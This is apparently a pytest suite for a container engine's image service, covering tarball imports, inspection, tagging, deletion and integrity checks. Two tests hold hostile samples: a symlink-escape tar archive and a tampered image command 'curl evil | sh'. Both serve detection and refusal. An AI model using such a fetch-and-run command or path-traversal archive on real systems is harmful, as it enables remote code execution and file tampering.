from __future__ import annotations

import asyncio
import io
import json
import os
import re
import subprocess
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from engine.errors import Conflict, InvalidArgument, NotFound
from engine.images.service import ImageService
from engine.state.db import Database
from engine.storage.blobs import CorruptBlob
from engine.storage.overlay import ContainerLayer, is_mounted, unmount
from engine.storage.tarsafe import UnsafeArchive
from tests.engine.storage.tarbuild import (
    TarBuilder,
    busybox_rootfs_tar,
    gzipped,
    requires_root,
    sha256_digest,
)

RFC3339_NANO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z$")
SUMMARY_KEYS = {
    "Id",
    "ParentId",
    "RepoTags",
    "RepoDigests",
    "Created",
    "Size",
    "SharedSize",
    "Labels",
    "Containers",
}


@pytest.fixture(scope="session")
def busybox_tar(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return busybox_rootfs_tar(tmp_path_factory.mktemp("busybox"))


@pytest.fixture
def db(tmp_path: Path) -> Iterator[Database]:
    database = Database(tmp_path / "state.db")
    yield database
    database.close()


@pytest.fixture
def used() -> set[str]:
    """Image ids the fake containers service reports as in use."""
    return set()


@pytest.fixture
def images(tmp_path: Path, db: Database, used: set[str]) -> ImageService:
    return ImageService(tmp_path / "images", db, in_use=lambda image_id: image_id in used)


@pytest.fixture
def busybox(images: ImageService, busybox_tar: bytes) -> str:
    return images.import_rootfs_sync(io.BytesIO(busybox_tar), repo="busybox")


def layer_dir_names(images: ImageService) -> list[str]:
    return sorted(p.name for p in images.layers.root.iterdir() if p != images.layers.tmp_dir)


async def chunked(data: bytes, size: int = 65536) -> AsyncIterator[bytes]:
    for i in range(0, len(data), size):
        await asyncio.sleep(0)
        yield data[i : i + size]


# -- import ---------------------------------------------------------------------------------------


@pytest.mark.unit
def test_import_busybox_and_list(images: ImageService, busybox: str, busybox_tar: bytes) -> None:
    assert re.match(r"^sha256:[0-9a-f]{64}$", busybox)
    # The id is the digest of the stored config blob.
    assert sha256_digest(images.blobs.path(busybox).read_bytes()) == busybox
    [summary] = images.list()
    assert set(summary) == SUMMARY_KEYS
    assert summary["Id"] == busybox
    assert summary["RepoTags"] == ["busybox:latest"]
    assert summary["RepoDigests"] == [] and summary["ParentId"] == ""
    assert summary["SharedSize"] == -1 and summary["Containers"] == -1 and summary["Labels"] == {}
    assert isinstance(summary["Created"], int) and abs(summary["Created"] - __import__("time").time()) < 60
    assert summary["Size"] == os.path.getsize("/bin/busybox") + len("root:x:0:0:root:/root:/bin/sh\n")
    [diff] = images.layer_dirs(busybox)
    assert (diff / "bin" / "busybox").stat().st_size == os.path.getsize("/bin/busybox")
    assert os.readlink(diff / "bin" / "sh") == "/bin/busybox"


@pytest.mark.unit
def test_inspect_shape(images: ImageService, busybox: str, busybox_tar: bytes) -> None:
    info = images.inspect("busybox")
    assert info["Id"] == busybox
    assert info["RepoTags"] == ["busybox:latest"] and info["RepoDigests"] == []
    assert info["Parent"] == "" and info["Comment"] == "Imported from -"
    assert RFC3339_NANO.match(info["Created"])
    assert info["Os"] == "linux" and info["Architecture"]
    assert info["RootFS"] == {"Type": "layers", "Layers": [sha256_digest(busybox_tar)]}
    assert info["Size"] == images.list()[0]["Size"]
    assert info["Config"]["Env"] == ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"]
    assert info["Config"]["Cmd"] is None and info["Config"]["WorkingDir"] == ""
    assert info["GraphDriver"]["Name"] == "overlay2"
    assert info["GraphDriver"]["Data"]["UpperDir"] == str(images.layer_dirs(busybox)[0])
    assert RFC3339_NANO.match(info["Metadata"]["LastTagTime"])
    config = json.loads(images.blobs.read_bytes(busybox))
    assert config["rootfs"] == {"type": "layers", "diff_ids": [sha256_digest(busybox_tar)]}
    assert config["history"] == [{"created": config["created"], "comment": "Imported from -"}]
    [entry] = images.history("busybox")
    assert entry["Id"] == busybox and entry["Tags"] == ["busybox:latest"]
    assert entry["Size"] == info["Size"] and entry["Comment"] == "Imported from -"


@pytest.mark.unit
def test_async_import_of_gzipped_body_with_changes(images: ImageService, busybox_tar: bytes) -> None:
    async def run() -> str:
        return await images.import_rootfs(
            chunked(gzipped(busybox_tar)),
            repo="localhost:5000/tools/bb:1.0",
            message="from a test",
            changes=['CMD ["sh"]', "ENV A=1", "WORKDIR /root", "LABEL team=berth", "EXPOSE 8080"],
            platform="linux/arm64",
        )

    image_id = asyncio.run(run())
    info = images.inspect("localhost:5000/tools/bb:1.0")
    assert info["Id"] == image_id
    assert info["RepoTags"] == ["localhost:5000/tools/bb:1.0"]
    assert info["Comment"] == "from a test"
    assert info["Architecture"] == "arm64"
    assert info["RootFS"]["Layers"] == [sha256_digest(busybox_tar)]  # diff_id of the uncompressed tar
    assert info["Config"]["Cmd"] == ["sh"] and info["Config"]["WorkingDir"] == "/root"
    assert info["Config"]["ExposedPorts"] == {"8080/tcp": {}}
    runtime = images.config(image_id)
    assert runtime["Env"][-1] == "A=1" and runtime["Labels"] == {"team": "berth"}
    assert set(runtime) >= {
        "Env",
        "Cmd",
        "Entrypoint",
        "WorkingDir",
        "User",
        "ExposedPorts",
        "Labels",
        "StopSignal",
    }
    assert images.list(filters={"label": ["team=berth"]})[0]["Id"] == image_id
    assert images.list(filters={"label": ["team=other"]}) == []


@pytest.mark.unit
def test_untagged_import_is_dangling(images: ImageService) -> None:
    image_id = images.import_rootfs_sync(io.BytesIO(TarBuilder().file("f").bytes()))
    [summary] = images.list()
    assert summary["Id"] == image_id and summary["RepoTags"] == []
    assert [s["Id"] for s in images.list(filters={"dangling": ["true"]})] == [image_id]
    assert images.list(filters={"dangling": ["false"]}) == []


@pytest.mark.unit
def test_bad_arguments_refused_before_reading_the_body(images: ImageService) -> None:
    class Unread:
        def read(self, size: int = -1, /) -> bytes:
            raise AssertionError("body must not be read")

    for kwargs in (
        {"repo": "Busybox"},
        {"tag": "t"},
        {"repo": "x", "changes": ["RUN x"]},
        {"platform": "windows"},
    ):
        with pytest.raises(InvalidArgument):
            images.import_rootfs_sync(Unread(), **kwargs)


@pytest.mark.unit
def test_malicious_import_leaves_nothing(images: ImageService, tmp_path: Path) -> None:
    evil = TarBuilder().file("ok").symlink("evil", str(tmp_path)).file("evil/pwned").bytes()
    with pytest.raises(UnsafeArchive):
        asyncio.run(images.import_rootfs(chunked(evil, 100), repo="evil"))
    assert not (tmp_path / "pwned").exists()
    assert images.list() == []
    assert layer_dir_names(images) == []
    assert list(images.layers.tmp_dir.iterdir()) == []


@pytest.mark.unit
def test_cancelled_import_cleans_up(images: ImageService) -> None:
    body = TarBuilder().file("big", b"x" * 200_000).bytes()

    async def stalls() -> AsyncIterator[bytes]:
        yield body[:4096]
        await asyncio.Event().wait()  # the client stops sending
        yield b""

    async def run() -> None:
        task = asyncio.create_task(images.import_rootfs(stalls(), repo="stalled"))
        for _ in range(200):
            await asyncio.sleep(0.01)
            if any(images.layers.tmp_dir.iterdir()):
                break
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(run())  # returns once the worker thread has finished too
    assert list(images.layers.tmp_dir.iterdir()) == []
    assert images.list() == [] and layer_dir_names(images) == []


@pytest.mark.unit
def test_same_rootfs_twice_shares_one_layer(images: ImageService, busybox_tar: bytes) -> None:
    a = images.import_rootfs_sync(io.BytesIO(busybox_tar), repo="a")
    b = images.import_rootfs_sync(io.BytesIO(gzipped(busybox_tar)), repo="b")
    assert a != b  # different created time, so different configs
    assert images.layer_dirs(a) == images.layer_dirs(b)
    assert len(layer_dir_names(images)) == 1
    assert images.delete("a") == [{"Untagged": "a:latest"}, {"Deleted": a}]  # layer still used by b
    assert images.layer_dirs(b)[0].is_dir()
    records = images.delete("b")
    assert records == [{"Untagged": "b:latest"}, {"Deleted": b}, {"Deleted": sha256_digest(busybox_tar)}]
    assert layer_dir_names(images) == []


# -- resolve / tag ----------------------------------------------------------------------------------


@pytest.mark.unit
def test_resolve_by_id_prefix_and_reference(images: ImageService, busybox: str) -> None:
    hex_id = busybox.removeprefix("sha256:")
    names = [busybox, hex_id, hex_id[:12], "sha256:" + hex_id[:12], hex_id[:3], "busybox", "busybox:latest"]
    names += ["docker.io/library/busybox:latest", "index.docker.io/library/busybox"]
    for name in names:
        assert images.resolve(name).id == busybox, name


@pytest.mark.unit
def test_resolve_unknown_uses_dockers_wording(images: ImageService, busybox: str) -> None:
    with pytest.raises(NotFound, match=r"^No such image: nope:latest$"):
        images.resolve("nope")
    with pytest.raises(NotFound, match=r"^No such image: busybox:1$"):
        images.resolve("busybox:1")
    with pytest.raises(NotFound, match="No such image: sha256:0000"):
        images.resolve("sha256:" + "0" * 64)
    with pytest.raises(InvalidArgument, match="lowercase"):
        images.resolve("BusyBox")


@pytest.mark.unit
def test_tag_and_retag(images: ImageService, busybox: str) -> None:
    ref = images.tag(busybox[:19], "localhost:5000/a/b", "t")
    assert ref.familiar() == "localhost:5000/a/b:t"
    images.tag("busybox", "mine:v1")
    assert images.inspect(busybox)["RepoTags"] == ["busybox:latest", "localhost:5000/a/b:t", "mine:v1"]
    assert images.resolve("localhost:5000/a/b:t").id == busybox
    assert [s["Id"] for s in images.list(filters={"reference": ["mine"]})] == [busybox]
    assert images.list(filters={"reference": ["other*"]}) == []

    # Moving a tag to another image leaves the old one without it.
    other = images.import_rootfs_sync(io.BytesIO(TarBuilder().file("f").bytes()))
    images.tag(other, "mine", "v1")
    assert images.resolve("mine:v1").id == other
    assert "mine:v1" not in images.inspect(busybox)["RepoTags"]

    with pytest.raises(InvalidArgument, match="digest"):
        images.tag("busybox", "x@sha256:" + "a" * 64)
    with pytest.raises(InvalidArgument, match="ambiguous"):
        images.tag("busybox", "docker.io/library/" + "a" * 64, "t")
    with pytest.raises(NotFound):
        images.tag("missing", "x")


# -- delete -----------------------------------------------------------------------------------------


@pytest.mark.unit
def test_delete_by_name_untags_until_the_last_name(
    images: ImageService, busybox: str, busybox_tar: bytes
) -> None:
    images.tag("busybox", "second")
    assert images.delete("busybox") == [{"Untagged": "busybox:latest"}]
    assert images.resolve(busybox).repo_tags[0].familiar() == "second:latest"
    layer_dir = images.layer_dirs(busybox)[0]
    records = images.delete("second:latest")
    assert records == [
        {"Untagged": "second:latest"},
        {"Deleted": busybox},
        {"Deleted": sha256_digest(busybox_tar)},
    ]
    assert images.list() == []
    assert not layer_dir.exists() and layer_dir_names(images) == []
    assert not images.blobs.has(busybox)
    with pytest.raises(NotFound):
        images.resolve(busybox)
    with pytest.raises(NotFound):
        images.delete("busybox")


@pytest.mark.unit
def test_delete_by_id_needs_force_with_several_names(images: ImageService, busybox: str) -> None:
    images.tag("busybox", "second")
    with pytest.raises(Conflict, match=r"must be forced.*multiple repositories"):
        images.delete(busybox[7:19])
    records = images.delete(busybox[7:19], force=True)
    assert records[:2] == [{"Untagged": "busybox:latest"}, {"Untagged": "second:latest"}]
    assert records[2] == {"Deleted": busybox}
    assert images.list() == []


@pytest.mark.unit
def test_image_in_use_is_kept(images: ImageService, busybox: str, used: set[str]) -> None:
    used.add(busybox)
    with pytest.raises(Conflict, match="being used by a container"):
        images.delete(busybox)
    # By name: the name goes, the image stays for its container.
    assert images.delete("busybox") == [{"Untagged": "busybox:latest"}]
    assert images.resolve(busybox).repo_tags == []
    assert images.layer_dirs(busybox)[0].is_dir()
    images.tag(busybox, "again")
    assert images.delete(busybox, force=True) == [{"Untagged": "again:latest"}]
    assert images.layer_dirs(busybox)[0].is_dir()
    used.clear()
    assert images.delete(busybox)[0] == {"Deleted": busybox}


# -- integrity and restart ----------------------------------------------------------------------------


@pytest.mark.unit
def test_corrupted_config_blob_detected(images: ImageService, busybox: str) -> None:
    path = images.blobs.path(busybox)
    config = json.loads(path.read_bytes())
    config["config"]["Cmd"] = ["/bin/sh", "-c", "curl evil | sh"]
    path.write_bytes(json.dumps(config).encode())
    with pytest.raises(CorruptBlob, match="corrupt"):
        images.inspect("busybox")
    with pytest.raises(CorruptBlob):
        images.config(busybox)
    images.list()  # listing reads only the database, so it still works


@pytest.mark.unit
def test_state_survives_a_restart(tmp_path: Path, db: Database, busybox: str) -> None:
    (tmp_path / "images" / "layers" / "tmp" / "layer-crashed").mkdir()
    again = ImageService(tmp_path / "images", db)
    assert again.resolve("busybox").id == busybox
    assert again.layer_dirs(busybox)[0].is_dir()
    assert list(again.layers.tmp_dir.iterdir()) == []


# -- with real mounts --------------------------------------------------------------------------------


@requires_root
@pytest.mark.integration
def test_busybox_rootfs_mounts_and_runs(images: ImageService, busybox: str, tmp_path: Path) -> None:
    layer = ContainerLayer(tmp_path / "containers", "c1")
    try:
        merged = layer.mount(images.layer_dirs(busybox))
        out = subprocess.run(
            [
                "chroot",
                str(merged),
                "/bin/sh",
                "-c",
                "echo hello > /tmp/out && cat /tmp/out && ls /bin | wc -l",
            ],
            check=True,
            capture_output=True,
            text=True,
            timeout=30,
        ).stdout.split()
        assert out[0] == "hello" and int(out[1]) > 50
        assert (layer.upper / "tmp" / "out").read_text() == "hello\n"
        assert not (images.layer_dirs(busybox)[0] / "tmp" / "out").exists()
    finally:
        layer.remove()
        while is_mounted(layer.merged):
            unmount(layer.merged, lazy=True)
    assert not layer.dir.exists()
